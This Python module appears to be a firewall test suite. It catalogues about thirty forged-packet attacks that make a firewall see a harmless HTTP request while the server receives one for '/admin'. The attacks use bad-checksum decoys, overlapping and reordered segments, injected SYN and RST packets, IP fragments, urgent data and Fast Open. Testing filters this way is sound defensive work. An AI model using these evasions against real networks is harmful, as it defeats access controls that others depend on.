"""Attacks below HTTP: what a client may do so that the firewall reads something else than the server's stack."""

import time
from collections.abc import Callable

from gate_forger import ACK, FIN, MSS, PSH, RST, SYN, Forger

REST = b"Host: a\r\nConnection: close\r\n\r\n"
EVIL = b"GET /admin/x HTTP/1.1\r\n" + REST
GOOD = b"GET /okoko/x HTTP/1.1\r\n" + REST
UNFINISHED = b"GET /admin/x HTTP/1.1\r\nHost: a\r\nConnection: close\r\nX: "
WISH = b"GET /okoko/x HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
SOON, LATER = 0.005, 0.3

Attack = Callable[[Forger], None]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    """One of them; its docstring says what it does."""
    ATTACKS[(function.__doc__ or "").rstrip(".")] = function
    return function


def _opened(client: Forger) -> Forger:
    client.connect()
    return client


@attack
def _plain(client: Forger) -> None:
    """Nothing special."""
    _opened(client).data(EVIL)


@attack
def _checksum(client: Forger) -> None:
    """A harmless text with a wrong checksum first, then the real one."""
    _opened(client).send(GOOD, broken=True)
    time.sleep(SOON)
    client.data(EVIL)


@attack
def _checksum_late(client: Forger) -> None:
    """The same, the real one later."""
    _opened(client).send(GOOD, broken=True)
    time.sleep(LATER)
    client.data(EVIL)


@attack
def _half(client: Forger) -> None:
    """Half a head with a wrong checksum, then other text, then its end."""
    _opened(client).send(b"GET /okok", broken=True)
    time.sleep(SOON)
    client.data(b"GET /admi")
    time.sleep(SOON)
    client.data(b"n/x HTTP/1.1\r\n" + REST)


@attack
def _half_late(client: Forger) -> None:
    """The same, later."""
    _opened(client).send(b"GET /okok", broken=True)
    time.sleep(LATER)
    client.data(b"GET /admi")
    time.sleep(LATER)
    end = b"n/x HTTP/1.1\r\n" + REST
    client.data(end)
    client.listen(LATER)
    client.send(end, seq=client.seq - len(end))


def _old(client: Forger, wait: float) -> None:
    client.stamped = True
    _opened(client).send(GOOD, stamp=(client.clock() - 100000) & 0xFFFFFFFF)
    time.sleep(wait)
    client.data(EVIL)


@attack
def _old_stamp(client: Forger) -> None:
    """A decoy with an old time stamp."""
    _old(client, SOON)


@attack
def _old_stamp_late(client: Forger) -> None:
    """A decoy with an old time stamp, the real one later."""
    _old(client, LATER)


@attack
def _bad_ack(client: Forger) -> None:
    """A decoy that acknowledges what was never sent."""
    _opened(client).send(GOOD, ack=client.ack + 100000)
    time.sleep(SOON)
    client.data(EVIL)


@attack
def _no_ack(client: Forger) -> None:
    """A decoy without the ACK flag."""
    _opened(client).send(GOOD, PSH)
    time.sleep(LATER)
    client.data(EVIL)


@attack
def _order(client: Forger) -> None:
    """The second half first."""
    _opened(client).send(EVIL[8:], seq=client.seq + 8)
    time.sleep(0.02)
    client.send(EVIL[:8])
    client.listen(0.2)
    client.send(EVIL[8:], seq=client.seq + 8)
    client.seq += len(EVIL)


@attack
def _order_of_three(client: Forger) -> None:
    """Middle and end, then the beginning with another middle over it."""
    _opened(client).send(EVIL[5:12], seq=client.seq + 5)
    client.send(EVIL[12:], seq=client.seq + 12)
    time.sleep(0.01)
    client.send(GOOD[:12])
    time.sleep(0.05)
    client.send(GOOD[12:], seq=client.seq + 12)
    client.seq += len(EVIL)


@attack
def _overlap(client: Forger) -> None:
    """The first half again, with other text, together with the second half."""
    _opened(client).send(b"GET /adm")
    time.sleep(0.02)
    client.send(b"GET /ok?" + EVIL[8:])
    client.seq += len(EVIL)


@attack
def _two_texts(client: Forger) -> None:
    """Two texts for the same bytes, back to back."""
    _opened(client)
    for place in range(8):
        client.send(EVIL[place : place + 1], seq=client.seq + place)
        client.send(GOOD[place : place + 1], seq=client.seq + place)
    client.send(EVIL[8:], seq=client.seq + 8)
    client.seq += len(EVIL)


@attack
def _cut_otherwise(client: Forger) -> None:
    """A decoy in one piece with a wrong checksum, the real text in three."""
    _opened(client).send(GOOD, broken=True)
    time.sleep(SOON)
    for start, end in ((0, 5), (5, 12), (12, len(EVIL))):
        client.data(EVIL[start:end])
        time.sleep(SOON)


@attack
def _syn(client: Forger) -> None:
    """A SYN within the head, so that the firewall begins anew."""
    _opened(client).data(UNFINISHED)
    time.sleep(0.02)
    client.send(flags=SYN, seq=client.seq - 1, ack=0, options=MSS)
    time.sleep(0.02)
    client.data(b"GET /ok HTTP/1.1\r\n\r\n")


@attack
def _rst(client: Forger) -> None:
    """A RST within the head that the stack ignores."""
    _opened(client).data(UNFINISHED)
    time.sleep(0.02)
    client.send(flags=RST, seq=client.seq + 20)
    time.sleep(0.02)
    client.data(b"GET /ok HTTP/1.1\r\n\r\n")


@attack
def _urgent(client: Forger) -> None:
    """An urgent byte that the application does not get."""
    _opened(client).data(b"GET /adZmin/x HTTP/1.1\r\n" + REST, urgent=8)


@attack
def _fragments(client: Forger) -> None:
    """IP fragments of 24 bytes."""
    segment = _opened(client).segment(EVIL)
    for at in range(0, len(segment), 24):
        more = 0x2000 if at + 24 < len(segment) else 0
        client.put(client.packet(segment[at : at + 24], fragment=at // 8 | more, ident=4711))
    client.seq += len(EVIL)


@attack
def _window(client: Forger) -> None:
    """A decoy beyond the window, then the real one."""
    _opened(client).send(GOOD, seq=client.seq + 10000000)
    time.sleep(SOON)
    client.data(EVIL)


@attack
def _before(client: Forger) -> None:
    """One byte in front of the window: over the SYN."""
    _opened(client).send(b"X" + EVIL, seq=client.seq - 1)
    client.seq += len(EVIL)


@attack
def _fast_open(client: Forger) -> None:
    """Data in the SYN."""
    first = client.seq
    client.send(EVIL, SYN, ack=0, options=MSS)
    if client.listen(0.5) != "opened":
        client.send(flags=SYN, ack=0, seq=first, options=MSS)
        client.listen(1.0)
    client.send(flags=ACK)
    if client.acknowledged == (first + 1) & 0xFFFFFFFF:
        client.seq = first + 1
        client.data(EVIL)


@attack
def _ip_options(client: Forger) -> None:
    """IP options before the TCP header."""
    _opened(client).put(client.packet(client.segment(EVIL), options=b"\1\1\1\0"))
    client.seq += len(EVIL)


@attack
def _fin(client: Forger) -> None:
    """FIN with the request."""
    _opened(client).data(EVIL, PSH | ACK | FIN)
    client.seq += 1


@attack
def _tail(client: Forger) -> None:
    """The last byte of the head comes with other text in front of it."""
    _opened(client).data(EVIL[:-1])
    time.sleep(0.02)
    client.send(b"XXXX" + EVIL[-1:], seq=client.seq - 4)
    client.seq += 1


@attack
def _with_the_wish(client: Forger) -> None:
    """A request behind a wish for WebSocket, together with its last byte, before it is answered."""
    _opened(client).data(WISH)
    client.send(WISH[-1:] + EVIL, seq=client.seq - 1)
    client.listen(LATER)
    client.send(WISH[-1:] + EVIL, seq=client.seq - 1)
    client.seq += len(EVIL)


@attack
def _number_nought(client: Forger) -> None:
    """A trailer that begins at sequence number 0, with a wrong checksum, then a request with the real one in its body."""
    first = b"POST /okoko HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
    real = b"POST /okoko HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(EVIL) + EVIL
    client.seq = -len(first) - 1
    _opened(client).data(first)
    client.send(b"A: b".ljust(len(real) - 4, b"b") + b"\r\n\r\n", broken=True)
    client.data(real)
